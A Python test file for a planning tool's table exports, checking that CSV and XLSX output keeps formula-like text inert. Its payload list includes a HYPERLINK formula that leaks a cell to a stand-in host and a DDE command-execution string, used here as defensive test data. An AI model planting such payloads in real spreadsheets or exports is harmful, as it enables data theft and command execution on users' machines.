"""Every table a spreadsheet may open keeps formula-like text as text: values, headers, sheets."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from openpyxl import load_workbook

from gridplanner.cli import main
from gridplanner.export.tables import write_tables, write_xlsx
from gridplanner.project import Project, open_project, save_project
from gridplanner.scenarios import save_scenario
from layers.validate import validate

#: Texts a spreadsheet reads as formulas (or that hide one behind a tab, CR or blank).
FORMULAS = ("=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2",
            '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            " =1+2", "＝1+2")
#: What a spreadsheet treats as the start of a formula.
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝")


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _assert_inert_csv(path: Path) -> list[list[str]]:
    rows = _csv_cells(path)
    for row in rows:
        for cell in row:
            assert not cell.startswith(LIVE), (path.name, cell)
            assert not cell.lstrip(" ").startswith(LIVE), (path.name, cell)
    return rows


def _assert_inert_xlsx(path: Path) -> dict[str, list[list]]:
    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        assert not ws.title.startswith(LIVE), ws.title
        rows = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(LIVE), (ws.title, cell.value)
            rows.append([c.value for c in row])
        out[ws.title] = rows
    return out


def test_one_rule_for_values_headers_and_sheet_names(tmp_path):
    table = pd.DataFrame({f: [f, "plain", 3.5] for f in FORMULAS})
    sheets = {"=SUM(1)": table, "@x": table, "+y": table, "ok": table}
    books = _assert_inert_xlsx(write_tables(sheets, tmp_path / "t.xlsx")[0])
    assert list(books) == ["_=SUM(1)", "_@x", "_+y", "ok"]
    header, first, second, third = books["ok"]
    # XML reads a CR in a text as a line feed: the only change XLSX makes to a text.
    expected = ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert header == expected
    assert first == expected
    assert second == ["plain"] * len(FORMULAS)
    assert third == [3.5] * len(FORMULAS)
    paths = write_tables(sheets, tmp_path / "t.csv")
    assert [p.name for p in paths] == ["t.csv", "t__x.csv", "t__y.csv", "t_ok.csv"]
    for path in paths:
        rows = _assert_inert_csv(path)
        assert rows[0] == ["'" + f for f in FORMULAS]
        assert rows[1] == ["'" + f for f in FORMULAS]
        assert rows[3] == ["3.5"] * len(FORMULAS)


def test_texts_xml_or_utf8_cannot_hold_and_error_words_stay_text(tmp_path):
    table = pd.DataFrame({"a": ["#N/A", "bell\x07", "nul\x00", "half\ud800"],
                          "b": [1, 2, 3, 4]})
    ws = load_workbook(write_tables({"s": table}, tmp_path / "t.xlsx")[0])["s"]
    assert [c.value for c in ws["A"]] == ["a", "#N/A", "bell\ufffd", "nul\ufffd", "half\ufffd"]
    assert ws["A2"].data_type == "s"
    rows = _csv_cells(write_tables({"s": table}, tmp_path / "t.csv")[0])
    assert [r[0] for r in rows] == ["a", "#N/A", "bell\x07", "nul\x00", "half?"]


def _tiny_project(path: Path) -> Path:
    crs = "EPSG:4549"
    ids = ["=1+2", "@SUM(A1)", "G3"]
    grids = gpd.GeoDataFrame(
        {"grid_id": ids, "community_id": ["+cmd", "-2", "C"], "name": ["a", "b", "c"]},
        geometry=[shapely.box(500000 + 300 * i, 3200000, 500300 + 300 * i, 3200300)
                  for i in range(3)], crs=crs)
    staff = gpd.GeoDataFrame(
        {"staff_id": ["=HYPERLINK(\"x\")", "\t=2", "s3"], "role": ["full_time"] * 3,
         "grid_id": ids, "name": ["=name()", "b", "c"]},
        geometry=[shapely.Point(500100 + 300 * i, 3200100) for i in range(3)], crs=crs)
    households = gpd.GeoDataFrame(
        {"household_id": ["=h1", "h2"], "households": [3, 4]},
        geometry=[shapely.Point(500050, 3200050), shapely.Point(500350, 3200050)], crs=crs)
    layers = {"grids": grids, "staff": staff, "households": households}
    return save_project(Project(layers={k: validate(v, k).frame for k, v in layers.items()}),
                        path)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_results_tables(tmp_path, suffix, capsys):
    project = _tiny_project(tmp_path / "p.gpkg")
    out = tmp_path / f"results{suffix}"
    assert main(["export-results", str(project), "--out", str(out), "--no-coverage",
                 "--no-allocation"]) == 0
    if suffix == ".xlsx":
        grids = _assert_inert_xlsx(out)["grid_figures"]
        assert [r[0] for r in grids[1:]] == ["'=1+2", "'@SUM(A1)", "G3"]
    else:
        rows = _assert_inert_csv(out)
        assert [r[0] for r in rows[1:]] == ["'=1+2", "'@SUM(A1)", "G3"]
        assert [r[1] for r in rows[1:]] == ["'+cmd", "'-2", "C"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_compare_report_with_a_formula_for_a_scenario_name(sample_project_file, tmp_path,
                                                           suffix, capsys):
    path = shutil.copy(sample_project_file, tmp_path / "p.gpkg")
    project = open_project(path)
    save_scenario(project, "=1+1", parameters={"walk_cutoff_m": 1500})
    save_scenario(project, "@SUM(A1)", parameters={"walk_cutoff_m": 1200})
    save_project(project)
    out = tmp_path / f"report{suffix}"
    assert main(["compare", str(path), "current", "=1+1", "@SUM(A1)", "--out", str(out),
                 "--no-coverage", "--no-allocation", "--lang", "en"]) == 0
    if suffix == ".xlsx":
        header = _assert_inert_xlsx(out)["figures"][0]
    else:
        for sibling in out.parent.glob("report*.csv"):
            _assert_inert_csv(sibling)
        header = _csv_cells(out)[0]
    assert "'=1+1" in header
    assert "'@SUM(A1)" in header
    assert "Δ =1+1" in header


def test_route_points_table(sample_project_file, tmp_path, capsys):
    roads = gpd.read_file(sample_project_file, layer="roads")
    centres = roads.geometry.iloc[:len(FORMULAS)].centroid
    points = gpd.GeoDataFrame({"incident_id": list(FORMULAS)}, geometry=centres.to_numpy(),
                              crs=roads.crs)
    source = tmp_path / "points.gpkg"
    points.to_file(source, layer="points")
    out = tmp_path / "routes.csv"
    assert main(["route", str(sample_project_file), "--points", str(source),
                 "--out", str(out)]) == 0
    rows = _assert_inert_csv(out)
    assert rows[0][0] == "incident_id"
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]


def test_column_names_kept_as_headers_are_escaped_too(tmp_path):
    out = write_xlsx({"t": pd.DataFrame({"=1+1": [1], "plain": [2]})}, tmp_path / "t.xlsx",
                     column_names=True)
    ws = load_workbook(out)["t"]
    assert [c.value for c in ws[1]] == ["'=1+1", "plain"]
